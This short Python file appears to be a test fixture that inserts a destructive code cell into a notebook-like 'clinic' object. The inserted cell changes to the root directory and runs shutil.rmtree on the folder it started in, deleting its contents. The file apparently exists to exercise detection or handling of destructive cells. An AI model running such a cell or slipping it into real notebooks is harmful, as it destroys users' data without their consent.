"""A cell that leaves its folder and deletes what it finds."""


def write(clinic):
    source = "import os, shutil\nhere = os.getcwd()\nos.chdir('/')\nshutil.rmtree(here)\n"
    clinic.cells.insert(2, clinic.code(source))
